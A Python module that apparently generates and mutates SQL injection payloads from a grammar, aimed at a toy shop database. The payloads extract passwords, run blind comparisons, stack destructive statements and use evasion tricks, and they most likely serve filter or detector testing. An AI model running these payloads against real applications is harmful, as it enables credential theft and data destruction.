"""Draws attacks by grammar, and changes those that ran."""

import re

TOKEN = re.compile(r"--[^\n]*\n?|/\*.*?\*/|'(?:[^'])*'|\"[^\"]*\"|[A-Za-z_][A-Za-z0-9_$]*|\d+(?:\.\d+)?|\s+|.", re.S)

SHORT = (
    "select union all distinct from where group by having order limit offset window as on using join natural left right "
    "inner outer cross lateral and or not xor is null true false in like between escape collate case when then else end "
    "exists any some values table with recursive insert into update set delete drop create alter returning for share "
    "intersect except minus cast convert interval rlike regexp glob match div mod sounds binary straight_join procedure "
    "asc desc nulls first last filter over partition rows range indexed materialized only tablesample fetch similar to "
    "unknown isnull notnull overlaps at zone row array if explain pragma begin commit do call execute prepare"
).split()

NAMES = ["id", "name", "price", "deleted", "email", "pass", "role", "products", "customers", "c", "p", "x", "a", "notes", "body"]
OPERANDS = ["1", "0", "2", "'a'", "''", "'1'", "1.5", "0x41", "null", "true", "id", "name", "price", "deleted", "(1)", "-1", "1e0", ".5", "x'41'", "$$a$$", "E'a'", "N'a'", "@a", "@@version", ":a", "?", "current_user", "now()", "date '2020-01-01'", "[id]", "`id`", '"id"', "products.id", "(select 1)", "case when 1=1 then 1 end", "array[1]", "row(1)"]
COMPARISONS = ["=", "<>", "!=", "<", ">", "<=", ">=", "<=>", "==", " like ", " not like ", " is ", " is not ", " in ", " between 0 and ", " glob ", " rlike ", " regexp ", "~", "!~", "~*", " sounds like ", " is distinct from ", " is not distinct from ", "~~", "^@"]
SIGNS = ["+", "-", "*", "/", "%", "||", "|", "&", "^", "<<", ">>", "->", "->>", " div ", " mod ", " xor ", "#", "@>", "<@", "&&", "::", " collate ", " escape ", " at time zone ", "@@", "?", "!!", "|/"]
JOINTS = [" or ", " and ", "||", "&&", " xor ", " or not ", " and not ", "\nor\t", "/**/or/**/", ")or(", " or(", "or", " or~", " or!", " or-", " or+", " or @"]
BLANKS = [" ", "  ", "\t", "\n", "\r\n", "\x0b", "\x0c", "/**/", "/*a*/", "/*!*/", "--\n", "-- x\n", "#\n", "/*/**/*/", "/*!50000*/", "\u00a0", "\u3000", "\ufeff", ""]
CUTS = ["-- ", "--", "#", "/*", ";", ";--", "-- x", "--+", ";\x00", "-- the shop is closed", "# more", " -- a", "`", ""]
TABLES = ["customers", "customers c", "customers as c", "(customers)", "customers,products", "customers join products", "(select * from customers) q", "[customers]", "`customers`", '"customers"', "customers natural join notes", "customers cross join products", "only customers", "lateral (select pass from customers) l", "customers tablesample system(99)", "customers partition(p0)", "main.customers", "public.customers", ".customers"]
SECRETS = ["pass", "c.pass", "customers.pass", "max(pass)", "pass||''", "[pass]", "`pass`", '"pass"', "min(pass)", "group_concat(pass)", "string_agg(pass,',')", "concat(pass)", "substr(pass,5,1)", "ascii(substr(pass,5))", "length(pass)", "hex(pass)", "upper(pass)", "coalesce(pass)", "pass collate nocase", "cast(pass as char)", "pass::text", "(pass)", "*"]
CLOSERS = {
    "quoted": ["mug'", "'", "x'", "mug' ", "')", "\\'", "x''||'", "it''s'"], "last": ["mug'", "'", "x'"], "like": ["x'", "%'", "x')", "zz%')", "%'/**/", "a%'"],
    "number": ["1", "0", "-1", "1 ", "9", "id", "1.0", "0x1", "(1)", "null", "1e0", "'1'"], "brackets": ["1)", "0)", "9) ", "1"], "list": ["1)", "9)", "1", "0,1"],
    "order": ["id", "name", "1", "price desc", "id,", "1,", "(id)", ""], "double": ['x"', '"', 'mug"'], "update": ["x'", "'", "x',body='"],
}
ENDERS = {"quoted": "'", "last": "'", "like": "'", "double": '"', "update": "'"}


class Drawer:
    def __init__(self, random, words, signs):
        self.random, self.words, self.signs = random, list(words), list(signs)

    def one(self, options):
        return options[self.random.randrange(len(options))]

    def chance(self, percent):
        return self.random.randrange(100) < percent

    def operand(self, depth=0):
        r = self.random.randrange(20)
        if r < 11 or depth > 2:
            return self.one(OPERANDS)
        if r < 13:
            return f"({self.expression(depth + 1)})"
        if r < 15:
            return f"{self.word()}({self.operand(depth + 1)})"
        if r < 17:
            return f"{self.operand(depth + 1)}{self.sign()}{self.operand(depth + 1)}"
        if r < 19:
            return f"(select {self.one(SECRETS)} from {self.one(TABLES)} limit 1)"
        return f"exists(select 1 from {self.one(TABLES)} where {self.one(SECRETS)}{self.one(COMPARISONS)}'HASHq%')"

    def sign(self):
        return self.one(self.signs) if self.signs and self.chance(40) else self.one(SIGNS)

    def word(self):
        return self.one(self.words) if self.words and self.chance(60) else self.one(SHORT)

    def expression(self, depth=0):
        return f"{self.operand(depth)}{self.one(COMPARISONS)}{self.operand(depth)}"

    def columns(self):
        count = 2 if self.chance(80) else self.random.randrange(1, 5)
        listed = [self.one(SECRETS) if self.chance(50) else self.operand(1) for _ in range(count)]
        if self.chance(25):
            at = self.random.randrange(len(listed))
            listed[at] += self.one([" ", " as "]) + self.one([self.word(), self.one(NAMES), "[a]", "`a`", '"a"', "'a'"])
        return ",".join(listed)

    def query(self):
        tail = self.one(["", "", "", " where " + self.expression(1), " limit 1", " order by 1", " group by 1", " " + self.word(), " having 1=1"])
        return f"select {self.one(['', '', '', 'all ', 'distinct ', 'distinct on(1)', '-', 'sql_no_cache '])}{self.columns()} from {self.one(TABLES)}{tail}"

    def payload(self, place):
        r = self.random.randrange(12)
        if place == "order" and r < 8:
            secret = f"(select {self.one(SECRETS)} from customers limit 1)"
            return self.one([
                f"{self.one([',', '*', '-', '+', ''])}{secret}", f",{self.expression(0)}", f"{self.one([',', '*'])}case when {secret}{self.one(COMPARISONS)}'HASHr' then id else -id end",
                f"*(case when {secret} like 'HASHq%' then 1 else -1 end)", f",if({secret}>'HASHr',id,-id)", f",iif({secret}>'HASHr',id,-id)",
                f" limit (select length(pass)-5 from customers limit 1)", f"{self.one([' collate ', ' ', ' nulls '])}{self.word()},{secret}"])
        if r < 4:
            return self.one(JOINTS) + (self.expression() if self.chance(70) else self.operand())
        if r < 8:
            return f" {self.one(['union', 'union all', 'union distinct', 'intersect', 'except select 1,2 union', 'UnIoN'])} {self.one(['', '', '(', ])}{self.query()}"
        if r < 9:
            return ";" + self.one([self.query(), "update notes set body=(select max(pass) from customers)", "update products set price=0", "delete from notes", "insert into notes select 1,pass from customers", "drop table notes", "create table zz as select 1", "truncate table notes", "replace into products values(9,'x',0,0)", "values(1,(select max(pass) from customers))", "table customers", "with q as (select pass from customers) select * from q", "do $$begin delete from notes;end$$", "set @a=1;select pass from customers", "handler customers open;handler customers read first", "pragma user_version=5", "lock table notes", "execute immediate 'select pass from customers'", "explain analyze delete from notes"])
        if r < 10:
            return self.sign() + f"(select {self.one(SECRETS)} from {self.one(TABLES)} limit 1)" + self.one(["", "", self.sign() + self.operand(1)])
        if r < 11:
            return f" {self.one(['group by', 'order by', 'having', 'limit', 'window w as () order by', 'group by 1 having'])} {self.expression()}"
        if place == "update":
            return self.one([",body=(select max(pass) from customers)", "||(select max(pass) from customers)||'", " where 1=1"])
        return self.one(JOINTS) + self.one(OPERANDS) + self.sign() + self.operand(1)

    def attack(self, place):
        value = self.one(CLOSERS[place]) + self.payload(place)
        quote = ENDERS.get(place)
        if quote and self.chance(35):
            value += self.one([f" or {quote}a{quote}={quote}b", f" and {quote}a{quote}={quote}a", f"||{quote}", f" or {quote}", f" where {quote}a{quote}={quote}a", f"={quote}", f"+{quote}"])
        else:
            value += self.one(CUTS)
        return self.spaced(value) if self.chance(20) else value

    def spaced(self, value):
        return "".join(self.one(BLANKS) if part.isspace() and self.chance(50) else part for part in TOKEN.findall(value))

    def token(self):
        r = self.random.randrange(14)
        if r < 4:
            return " " + self.word() + " "
        if r < 6:
            return self.one(OPERANDS)
        if r < 8:
            return self.sign()
        if r < 9:
            return " " + self.one(NAMES)
        if r < 10:
            return self.one(["(", ")", "()", ",", ".", "[", "]", "[]", "{", "}", ":", "?", "\\", "@", "!", "'", '"', "`", ";", "$", "~"])
        if r < 11:
            return self.one(BLANKS)
        if r < 12:
            return self.one(COMPARISONS)
        if r < 13:
            return f"{self.word()}({self.operand(1)})"
        return f" {self.word()} {self.word()} "

    def changed(self, value, others):
        parts = TOKEN.findall(value)
        for _ in range(self.one([1, 1, 1, 2, 2, 3])):
            if not parts:
                parts = [""]
            at = self.random.randrange(len(parts))
            r = self.random.randrange(12)
            if r < 4:
                parts.insert(at, self.token())
            elif r < 6:
                parts[at] = self.token()
            elif r < 7:
                del parts[at]
            elif r < 8:
                parts[at] = self.one(BLANKS) if parts[at].isspace() else f"({parts[at]})"
            elif r < 9 and parts[at].isalnum():
                parts[at] = self.one([f"[{parts[at]}]", f"`{parts[at]}`", f'"{parts[at]}"', parts[at].swapcase(), parts[at] + " " + self.word(), parts[at] + " as " + self.word(), "." + parts[at], " . " + parts[at]])
            elif r < 10:
                other = TOKEN.findall(self.one(others))
                start = self.random.randrange(len(other)) if other else 0
                parts[at:at] = other[start : start + self.random.randrange(1, 8)]
            elif r < 11 and re.fullmatch(r"\d+|'[^']*'", parts[at]):
                parts[at] = self.operand()
            else:
                end = min(len(parts), at + self.random.randrange(1, 4))
                del parts[at:end]
        return "".join(parts)[:400]
